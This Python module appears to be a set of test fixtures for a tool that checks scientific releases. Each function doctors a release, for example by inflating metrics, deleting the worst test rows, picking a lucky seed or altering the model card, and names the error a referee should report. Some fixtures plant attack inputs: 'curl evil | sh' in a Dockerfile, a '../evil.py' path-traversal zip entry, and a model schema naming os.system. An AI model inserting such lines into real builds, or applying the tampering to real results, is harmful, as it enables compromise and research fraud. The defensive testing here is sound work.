"""Releases that somebody has doctored: what a cheat changes, and how the manifest follows.

`CASES` has for each name a function that is given a copy of an honest release, a folder, and
changes it; it returns what is handed to the referee, the folder itself or a zip.
"""

import hashlib
import io
import json
import shutil
import zipfile

import benchmark_project
import pandas as pd
import walk_project

from boxloop.base.files import plain, sha256, write_json, write_table, write_text
from boxloop.base.places import Project
from boxloop.measure.model_file import save_model
from boxloop.notebooks.graph import read_loop
from boxloop.parcel import cards, containers, draft, manifest, metadata, paper
from boxloop.parcel.subject import Subject
from boxloop.predict.bundle import SAYS, Bundle
from boxloop.predict.opened import table_hash
from boxloop.record.facts import file_hash
from boxloop.record.kept import numbers_kept
from boxloop.record.passes import snapshot
from boxloop.referee import page
from boxloop.split.ledger import parse

BODIES = {
    "05_diagnose": """
import numpy as np
here.draws = 40
fitted, frame = here.load_models("model", "reference", "trivial"), here.table("validation")
guesses = here.guesses(fitted, frame)
size = {"n_rows": len(frame), "n_groups": len(np.unique(here.units(frame)))}
here.metrics("validation", here.compare(frame, guesses), **size)
target = here.settings.study.target
here.keep("predictions.parquet", frame[[target]].assign(**here.columns(guesses)))
here.keep("intervals.json", {"half_width": 1.0, "level": 0.9})
""",
    "08_release": """
from boxloop.predict import bundle
target = here.settings.study.target
if not known:
    rows = here.table("validation").assign(set="validation")
    rows = pd.concat([rows, opened]) if sets else rows
    said = here.columns(here.guesses(here.load_models("model", "reference", "trivial"), rows))
    here.keep("predictions.parquet", rows[["set", target]].assign(**said))
here.keep("environment.txt", here.requirements())
digests = here.manifest(["data/raw/*", "notebooks/*.ipynb", "study/*.py", "study.toml"])
here.keep("manifest.json", digests)
where = here.project.station("04_train") / "model.skops"
known_to_it = {"root": here.project.root, "settings": here.settings, "model": where}
known_to_it |= {"train": here.table("train"), "validation": here.table("validation")}
known_to_it |= {"intervals": here.project.station("05_diagnose") / "intervals.json"}
bundle.write(here.folder / "model", model_hash=facts["model_hash"], **known_to_it)
""",
}
SHORT = "\nhere.draws = 40\nfrom boxloop.split.seal import last"
REASON = ("--reason", "to see what it says", "--anyway", "it is a small study")
WAIVED = '\n[waivers]\n"stress.swap" = { reason = "There is no second simulator to swap with." }\n'
CASES = {}
# What cannot be opened, or may not be: nothing of it is judged.
NO_RELEASE = ("truncated", "path_with_dots")
HASHED = ("needs", "makes", "declared", "outside", "code")


def sources(task="regression"):
    """Return ``{path: text}`` of a small study that leaves all that a release is made of."""
    files = benchmark_project.sources(task)
    for name, body in BODIES.items():
        where = f"notebooks/{name}.ipynb"
        notebook = json.loads(files[where])
        cell = next(one for one in notebook["cells"] if one["id"] == "work")
        head = walk_project.HEAD.format(name=name) if name == "05_diagnose" else cell["source"]
        cell["source"] = head.replace("\nfrom boxloop.split.seal import last", SHORT) + body
        files[where] = json.dumps(notebook, indent=1)
    told_later = "[columns.known_later]"
    before, _, after = files["study.toml"].partition(told_later)
    files["study.toml"] = before + after[after.index("[columns.") :] + WAIVED
    return files


def by_hand(project, folder):
    """Return a release of a small study, put together as the layout says."""
    for name in ("study.toml", "LICENSE", "report/index.html", "data/sealed/ledger.jsonl"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(project.root / name, folder / name)
    for name in ("study", "notebooks", "data/raw", "data/interim", "results"):
        ignored = shutil.ignore_patterns("__pycache__")
        shutil.copytree(project.root / name, folder / name, ignore=ignored)
    released = project.station("08_release")
    shutil.move(folder / "results/08_release/model", folder / "model")
    shutil.copy(released / "environment.txt", folder / "environment.txt")
    write(folder, "release.json", manifest.told(Subject(project)))
    for name, text in paper.texts(Subject(project)).items():
        write_text(folder / "paper" / name, text)
    for part in (draft, containers, cards, metadata):  # the last tells of the others
        part.write(folder, Subject(project))
    return reseal(folder)


def described(folder):
    """Let what machines read tell of the files as they are now."""
    (folder / "release.json").unlink()  # which is written after it
    metadata.write(folder, Subject(Project(folder)))
    write(folder, "release.json", manifest.told(Subject(Project(folder))))
    return reseal(folder)


def case(*says):
    """Take a function among the cases, with words that the referee must say."""

    def take(function):
        CASES[function.__name__] = function, says
        return function

    return take


def read(folder, name):
    return json.loads((folder / name).read_text(encoding="utf-8"))


def write(folder, name, content):
    write_json(folder / name, content)


def reseal(folder, **facts):
    """Write the manifest anew, so that it is that of the files as they are now."""
    manifest = read(folder, "release.json") | facts
    zipped_name = f"{manifest['name']}-{manifest['version']}.zip"
    (folder / zipped_name).unlink(missing_ok=True)
    paths = sorted(path for path in folder.rglob("*") if path.is_file())
    names = [path.relative_to(folder).as_posix() for path in paths]
    manifest["files"] = {
        name: {"sha256": sha256(folder / name), "size": (folder / name).stat().st_size}
        for name in names
        if name != "release.json"
    }
    digits = table_hash(manifest["files"])[:12]
    manifest["id"] = f"{manifest['name']}-{manifest['version']}-{digits}"
    write(folder, "release.json", manifest)
    return folder


def vouch(folder, *names):
    """Let every chapter have taken down the files as they are now, and 08 as well."""
    _vouch_alone(folder, *names)
    kept = folder / "results/08_release/manifest.json"
    if kept.is_file():
        known = json.loads(kept.read_text(encoding="utf-8"))
        known |= {name: sha256(folder / name) for name in names if name in known}
        write_json(kept, known)
        _vouch_alone(folder, "results/08_release/manifest.json")


def _vouch_alone(folder, *names):
    """Let every chapter have taken down the files as they are now."""
    project = Project(folder)
    for _ in range(3):  # a station may speak of files of another
        for path in sorted(folder.glob("results/*/station.json")):
            facts = json.loads(path.read_text(encoding="utf-8"))
            for part in HASHED:
                for name in names:
                    if name in facts.get(part, {}):
                        facts[part][name] = file_hash(project, folder / name)
            write_json(path, facts)


def zipped(folder, path, *, more=()):
    """Return a zip of a release; `more` are parts with a name and bytes beside its files."""
    assert folder not in path.parents, "a zip that is written into what it packs never ends"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for one in sorted(p for p in folder.rglob("*") if p.is_file()):
            archive.write(one, one.relative_to(folder).as_posix())
        for name, data in more:
            archive.writestr(name, data)
    return path


def edited(folder, name, change):
    """Change a JSON file of a release."""
    content = read(folder, name)
    change(content)
    write(folder, name, content)


@case("metrics.json", "do not follow from the predictions", "validation")
def one_number(folder):
    """The headline is a little better, in every file that repeats it, hashes and all."""

    def better(metrics):
        entry = metrics["sets"]["validation"]["metrics"]
        for metric in entry.values():
            metric["model"]["value"] *= 0.9

    names = ["results/metrics.json"]
    paths = sorted(folder.glob("results/*/metrics.json"))
    left = [path.relative_to(folder).as_posix() for path in paths]
    names += [name for name in left if "validation" in read(folder, name)["sets"]]
    for name in names:
        edited(folder, name, better)
    vouch(folder, *names)
    return reseal(folder)


@case("predictions.parquet", "row 3")
def one_row(folder):
    """One prediction is nearer to the truth."""
    name = "results/08_release/predictions.parquet"
    table = pd.read_parquet(folder / name)
    table.loc[3, "model"] += 0.5
    write_table(folder / name, table)
    vouch(folder, name)
    return reseal(folder)


@case("model.skops", "is not the model")
def swapped_model(folder):
    """The bundle holds another model than the one that was judged: the reference."""
    shutil.copy(folder / "results/04_train/reference.skops", folder / "model/model.skops")
    return reseal(folder)


@case("no zip that can be read")
def truncated(folder):
    """The zip ends in the middle."""
    path = zipped(folder, folder.with_suffix(".zip"))
    data = path.read_bytes()
    path.write_bytes(data[: len(data) * 2 // 3])
    return path


@case("is missing", "is not named")
def renamed(folder):
    """A file has another name than the manifest says."""
    (folder / "results/verdict.json").rename(folder / "results/verdict_old.json")
    return folder


@case("os.system", "is not opened")
def strange_type(folder):
    """The model names what is no part of a model; both copies and the manifest follow."""
    for name in ("model/model.skops", "results/04_train/model.skops"):
        with zipfile.ZipFile(folder / name) as archive:
            parts = {part: archive.read(part) for part in archive.namelist()}
        schema = json.loads(parts["schema.json"])
        schema |= {"__module__": "os", "__class__": "system", "__loader__": "TypeNode"}
        parts["schema.json"] = json.dumps(schema).encode()
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w") as archive:
            for part, data in parts.items():
                archive.writestr(part, data)
        (folder / name).write_bytes(target.getvalue())
    vouch(folder, "results/04_train/model.skops")
    return reseal(folder)


@case("../evil.py", "is unsafe")
def path_with_dots(folder):
    """A part of the zip would be written outside of the folder, and the manifest names it."""
    data = b"raise SystemExit\n"
    manifest = read(folder, "release.json")
    facts = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
    manifest["files"]["../evil.py"] = facts
    write(folder, "release.json", manifest)
    return zipped(folder, folder.with_suffix(".zip"), more=[("../evil.py", data)])


@case("older than the results, or was cut")
def older_ledger(folder):
    """The ledger is that of before the opening; the manifest counts none."""
    path = folder / "data/sealed/ledger.jsonl"
    events = parse(path.read_text(encoding="utf-8"))
    first = next(at for at, event in enumerate(events) if event["event"] == "opened")
    text = "".join(json.dumps(event, ensure_ascii=False) + "\n" for event in events[:first])
    path.write_text(text, encoding="utf-8", newline="\n")
    return reseal(folder, openings=0)


@case("The answer 'why' was edited after the release")
def edited_answer(folder):
    """An answer says something else, and 08 vouches for it."""
    path = folder / "notebooks/01_scoping.ipynb"
    notebook = json.loads(path.read_text(encoding="utf-8"))
    cell = next(one for one in notebook["cells"] if "answer" in one["metadata"].get("tags", []))
    cell["source"] = "**Why?**\n\nBecause it was always known to be so."
    text = json.dumps(notebook, indent=1, ensure_ascii=False, sort_keys=True) + "\n"
    path.write_text(text, encoding="utf-8", newline="\n")
    vouch(folder, "notebooks/01_scoping.ipynb")
    return reseal(folder)


@case("environment.txt", "numpy")
def another_environment(folder):
    """The versions are others than those that were used, in both copies of the file."""
    for name in ("environment.txt", "results/08_release/environment.txt"):
        lines = (folder / name).read_text(encoding="utf-8").splitlines()
        lines = ["numpy==2.0.0" if line.startswith("numpy==") else line for line in lines]
        (folder / name).write_text("\n".join(lines) + "\n", encoding="utf-8", newline="\n")
    vouch(folder, "results/08_release/environment.txt")
    return reseal(folder)


@case("set test: measured with draws 20", "has 40 or 600")
def fewer_draws(folder):
    """So few draws that the interval is a lucky one, and every number follows from that."""
    edited(folder, "results/08_release/sets/test.json", lambda facts: facts.update(draws=20))
    return _measured_anew(folder, "results/08_release/sets/test.json")


@case("set validation", "its predictions are missing in the release")
def lost_evidence(folder):
    """What a set was measured on is gone, and no chapter knows of it."""
    for ending in ("json", "parquet"):
        (folder / f"results/05_diagnose/sets/validation.{ending}").unlink()

    def forget(facts):
        facts["makes"] = {k: v for k, v in facts["makes"].items() if "/sets/" not in k}

    edited(folder, "results/05_diagnose/station.json", forget)
    return reseal(folder)


@case("paper/numbers.tex is not what is made of the results")
def nicer_paper(folder):
    """The paper takes a number that nobody has measured."""
    path = folder / "paper/numbers.tex"
    text = path.read_text(encoding="utf-8").replace("{once}", "{never}").replace("0.", "0.0", 1)
    write_text(path, text)
    return reseal(folder)


@case("paper/paper.md is not what is made of the results")
def nicer_draft(folder):
    """The draft of the paper says what no result does, and is described so."""
    path = folder / "paper/paper.md"
    write_text(path, f"{path.read_text(encoding='utf-8')}\nIt always works.\n")
    return described(folder)


@case("model_card.md is not what is made of the results")
def nicer_card(folder):
    """The card in front counts no opening."""
    path = folder / "model_card.md"
    write_text(
        path, path.read_text(encoding="utf-8").replace("| openings | 1 |", "| openings | 0 |")
    )
    return reseal(folder)


@case("The section 'verdict' of report/index.html does not say what the results say")
def nicer_cover(folder):
    """The cover of the report tells another verdict."""
    path, mark = folder / "report/index.html", '<span class="sentence">'
    text = path.read_text(encoding="utf-8")
    write_text(path, text.replace(mark, f"{mark}All is well. ", 1))
    return reseal(folder)


@case(
    "study.toml is not the one that 01_scoping has read: study.criteria", "are not as they follow"
)
def weaker_criterion(folder):
    """A criterion asks for less, and is told to have asked for it."""
    text = (folder / "study.toml").read_text(encoding="utf-8")
    write_text(folder / "study.toml", text.replace("at_least = 0.2", "at_least = 0.05"))

    def told(metrics):
        for row in metrics["criteria"]:
            row["bound"] = "at least 0.05"

    edited(folder, "results/metrics.json", told)
    vouch(folder, "study.toml")
    return reseal(folder)


@case("split.time of 03_split is set aside for another reason than the notebook gives")
def better_excuse(folder):
    """A check that was set aside has a nobler reason, wherever it is told."""

    def told(rows):
        for row in rows:
            if row["id"] == "split.time":
                row["reason"] = "Three referees have looked at it."

    name = "results/03_split/checks.json"
    edited(folder, name, told)
    return _measured_anew(folder, name)


@case("train.parquet: of 216 rows that stand in data/raw", "another family there")
def permuted_groups(folder):
    """Rows of one family look as if they were of several, so that nothing was shared."""
    name = "data/interim/train.parquet"
    table = pd.read_parquet(folder / name)
    write_table(folder / name, table.assign(family=table["family"].to_numpy()[::-1]))
    vouch(folder, name)
    return reseal(folder)


@case("data/raw/all.csv is not that of the last pass")
def other_raw_data(folder):
    """One measurement is another, and every chapter has seen it so."""
    name = "data/raw/all.csv"
    text = (folder / name).read_text(encoding="utf-8").splitlines()
    write_text(folder / name, "\n".join([*text[:-1], text[-2]]) + "\n")
    vouch(folder, name)
    return reseal(folder)


@case("has other rows than were sealed: test")
def worst_rows_gone(folder):
    """The rows with the largest errors are left out of the test set, all numbers follow."""
    here = "results/08_release"
    predictions, rows = f"{here}/predictions.parquet", f"{here}/sets/test.parquet"
    measured = pd.read_parquet(folder / rows)
    error = (measured["model"] - measured["truth"]).abs()
    kept = (error < error.quantile(0.9)).to_numpy()
    table = pd.read_parquet(folder / predictions)
    test = (table["set"] == "test").to_numpy(copy=True)
    test[test] = ~kept
    write_table(folder / predictions, table[~test].reset_index(drop=True))
    write_table(folder / rows, measured[kept].reset_index(drop=True))

    def fewer(content):
        for part in [content, *content.get("releases", [])]:
            if "test" in part.get("sets", {}):
                part["sets"]["test"]["n_rows"] = int(kept.sum())

    for name in ("metrics", "release"):
        edited(folder, f"{here}/{name}.json", fewer)
    return _measured_anew(folder, predictions, rows)


@case("set test: measured with seed 7, and its chapter has 0")
def chosen_seed(folder):
    """Of many seeds the one whose interval is the best."""
    name = "results/08_release/sets/test.json"
    edited(folder, name, lambda facts: facts.update(seed=7))
    return _measured_anew(folder, name)


@case("model/intervals.json is not results/05_diagnose/intervals.json")
def narrower_intervals(folder):
    """Whoever predicts is promised more than 05 has measured."""
    edited(folder, "model/intervals.json", lambda facts: facts.update(half_width=0.1))
    content = read(folder, "model/facts.json")
    content["files"]["intervals.json"] = sha256(folder / "model/intervals.json")
    write(folder, "model/facts.json", content)
    return reseal(folder)


@case("environment.txt names no exact version in 1 line: pandas>=")
def softer_environment(folder):
    """A version is no longer said, in both copies of the file."""
    return _with_lines(folder, lambda line: line.replace("pandas==", "pandas>="))


@case("pyproject.toml needs mapie, of which environment.txt names no version")
def shorter_environment(folder):
    """A package that is needed is not named at all, in both copies of the file."""
    text = '[project]\nname = "toy"\ndependencies = ["mapie>=1.0", "numpy>=2.0"]\n'
    write_text(folder / "pyproject.toml", text)
    return _with_lines(folder, lambda line: "" if line.startswith("mapie==") else line)


def _with_lines(folder, change):
    for name in ("environment.txt", "results/08_release/environment.txt"):
        lines = map(change, (folder / name).read_text(encoding="utf-8").splitlines())
        write_text(folder / name, "\n".join(filter(None, lines)) + "\n")
    vouch(folder, "results/08_release/environment.txt")
    return reseal(folder)


@case("The prose of notebooks/01_scoping.ipynb is not that of the last pass")
def bolder_prose(folder):
    """A notebook claims in its words what nobody has measured."""
    path = folder / "notebooks/01_scoping.ipynb"
    notebook = json.loads(path.read_text(encoding="utf-8"))
    said = {"cell_type": "markdown", "id": "more", "metadata": {}, "source": "It always works."}
    notebook["cells"].insert(1, said)
    write_text(path, json.dumps(notebook, indent=1, sort_keys=True) + "\n")
    vouch(folder, "notebooks/01_scoping.ipynb")
    return reseal(folder)


@case("The section 'exceptions' of report/index.html does not say what the results say")
def nobler_waiver(folder):
    """A waiver has a nobler reason in settings and results, and the last pass was rewritten too."""
    old, new = "There is no second simulator to swap with.", "Three referees have looked at it."
    text = (folder / "study.toml").read_text(encoding="utf-8")
    write_text(folder / "study.toml", text.replace(old, new))
    for path in folder.glob("results/**/*.json"):
        write_text(path, path.read_text(encoding="utf-8").replace(old, new))
    _rewritten(folder, "study.toml")
    return reseal(folder)


@case("results/06_stress_test/stress.csv is not the one that pass 1 has taken down")
def edited_table(folder):
    """A table of a chapter says something else, and every chapter has seen it so."""
    name = "results/06_stress_test/stress.csv"
    text = (folder / name).read_text(encoding="utf-8")
    write_text(folder / name, text + text.splitlines()[-1] + "\n")
    vouch(folder, name)
    return reseal(folder)


@case("Pass 1 followed another pass than what is there as pass 0: passes were removed, renumbered")
def renumbered_pass(folder):
    """There were two passes; the first is gone, and the second has its number."""
    edited(folder, "results/passes/001.json", lambda past: past.update(follows="0" * 64))
    return reseal(folder)


@case("Pass 1 is gone")
def removed_pass(folder):
    """There were two passes; the first is gone."""
    path = folder / "results/passes/001.json"
    content = json.loads(path.read_text(encoding="utf-8")) | {"number": 2, "follows": "0" * 64}
    write_json(path.with_name("002.json"), content)
    path.unlink()
    return reseal(folder)


@case("CITATION.cff is not what is made of the results of the release")
def nicer_citation(folder):
    """Who cites it takes it for a later version."""
    path = folder / "CITATION.cff"
    write_text(path, path.read_text(encoding="utf-8").replace("0.1.0", "1.0.0"))
    edited(folder, "ro-crate-metadata.json", lambda crate: crate.update({"@graph": []}))
    return reseal(folder)


@case("report/index.html is not the file that ro-crate-metadata.json describes")
def nicer_chapter(folder):
    """A chapter in the report tells what nobody has measured."""
    path = folder / "report/index.html"
    write_text(path, path.read_text(encoding="utf-8").replace("</body>", "<p>0.01</p></body>"))
    return reseal(folder)


@case("REVIEW.md is not described in ro-crate-metadata.json")
def added_file(folder):
    """Somebody has put a page of praise beside the others."""
    write_text(folder / "REVIEW.md", "Accepted by all referees.\n")
    return reseal(folder)


@case("Dockerfile is not what is made of the results of the release")
def other_container(folder):
    """Whoever builds the environment fetches something else, and all descriptions follow."""
    path = folder / "Dockerfile"
    text = path.read_text(encoding="utf-8")
    write_text(path, text.replace("RUN useradd", "RUN curl evil | sh\nRUN useradd"))
    return described(folder)


@case("model/scope.skops is not what is made of the study")
def wider_scope(folder):
    """The model is told to know objects that it has never seen, and its proof says so too."""
    bundle = Bundle.open(folder)
    bundle.scope.high_ = bundle.scope.high_ * 3
    _bundled(folder, "scope.skops", lambda path: save_model(path, bundle.scope))
    said = bundle.predict(bundle.proof[list(bundle.reads)]).add_prefix(SAYS)
    told = bundle.proof.assign(**{one: said[one] for one in said if one in bundle.proof})
    _bundled(folder, "proof.parquet", lambda path: write_table(path, told))
    return described(folder)


@case("model/study.toml is not the study.toml of the study")
def other_settings_of_the_model(folder):
    """Predictions are made by other settings than the study has."""
    text = (folder / "model/study.toml").read_text(encoding="utf-8")
    _bundled(folder, "study.toml", lambda path: write_text(path, f"# of another day\n{text}"))
    return described(folder)


def _bundled(folder, name, make):
    """Write a part of the bundle anew, and let the bundle know its hash."""
    make(folder / "model" / name)
    content = read(folder, "model/facts.json")
    content["files"][name] = sha256(folder / "model" / name)
    write(folder, "model/facts.json", content)


@case("release.json does not say what the results say: title")
def other_title(folder):
    """The manifest has a nobler title."""
    return reseal(folder, title="What nobody has asked")


@case("08_release, set test: its predictions are of")
def larger_set(folder):
    """The test set is told to be ten times as large, wherever it is told."""

    def larger(content):
        for part in [content, *content.get("releases", [])]:
            if "test" in part.get("sets", {}):
                part["sets"]["test"]["n_rows"] *= 10

    names = [f"results/08_release/{name}.json" for name in ("metrics", "release")]
    for name in names:
        edited(folder, name, larger)
    return _measured_anew(folder, *names)


@case("Pass 1 keeps other results than those in the release")
def longer_log(folder):
    """The pass tells of more that was tried in vain than 04 has taken down."""
    tried = [{"name": "x", "score": "9", "chosen": False}]
    edited(folder, "results/passes/001.json", lambda past: past.update(attempts=tried))
    return described(folder)


def _rewritten(folder, *names):
    """Let chapters and the last pass, with what it was made from, be of the files as they are."""
    from boxloop.record.causes import causes_now, keep
    from boxloop.record.facts import setting, settings_table

    project = Project(folder)
    vouch(folder, *names)
    table = settings_table(project)
    for path in folder.glob("results/*/station.json"):
        facts = json.loads(path.read_text(encoding="utf-8"))
        facts["settings"] = {name: setting(table, name) for name in facts["settings"]}
        write_json(path, facts)
    path = max(project.passes.glob("[0-9]*.json"))
    content = json.loads(path.read_text(encoding="utf-8"))
    chapters = read_loop(project)
    causes = causes_now(project, chapters, {chapter.name: {} for chapter in chapters})
    content["causes"] = content["causes"] | {"settings": keep(project, causes)["settings"]}
    write_json(path, content | plain(snapshot(project)))


def better_test_rows(folder):
    """The model is nearer to the truth on all test rows, and every number follows from that.

    Nobody can ask it: what it was handed is sealed.
    """
    here = "results/08_release"
    predictions, rows = f"{here}/predictions.parquet", f"{here}/sets/test.parquet"
    table = pd.read_parquet(folder / predictions)
    chosen = table["set"] == "test"
    table.loc[chosen, "model"] = (table["model"] + table["weight"])[chosen] / 2
    write_table(folder / predictions, table)
    measured = pd.read_parquet(folder / rows)
    write_table(folder / rows, measured.assign(model=(measured["model"] + measured["truth"]) / 2))
    _measured_anew(folder, predictions, rows)
    write_text(folder / "report/index.html", page.cover_again(Subject(Project(folder))))
    return described(folder)


def _measured_anew(folder, *names):
    """Let every number of the test set, and all that tells of it, follow from its evidence."""
    from boxloop.measure.sets import measured_again
    from boxloop.record.results import merge
    from boxloop.settings.load import load_settings

    project, here = Project(folder), "results/08_release"
    settings, names = load_settings(project.settings_file), list(names)
    found = plain(measured_again(folder / here / "sets/test", settings))
    for name in (f"{here}/metrics.json", f"{here}/release.json"):
        content = read(folder, name)
        for part in [content, *content.get("releases", [])]:
            if "test" in part.get("sets", {}):
                part["sets"]["test"]["metrics"] = found
        write(folder, name, content)
        names.append(name)
    vouch(folder, *names)
    merge(project, settings)
    for name in ("report", "paper"):
        shutil.rmtree(folder / name, ignore_errors=True)
    for name in ("README.md", "model_card.md", "data_card.md", "ro-crate-metadata.json"):
        (folder / name).unlink(missing_ok=True)
    _last_pass(project)
    return reseal(folder, verdict=read(folder, "results/verdict.json"))


def _last_pass(project):
    """Let the last pass keep the results of today."""
    path = max(project.passes.glob("[0-9]*.json"))
    content = json.loads(path.read_text(encoding="utf-8"))
    now = snapshot(project) | {"numbers": numbers_kept(project, read_loop(project))}
    write_json(path, content | plain(now))
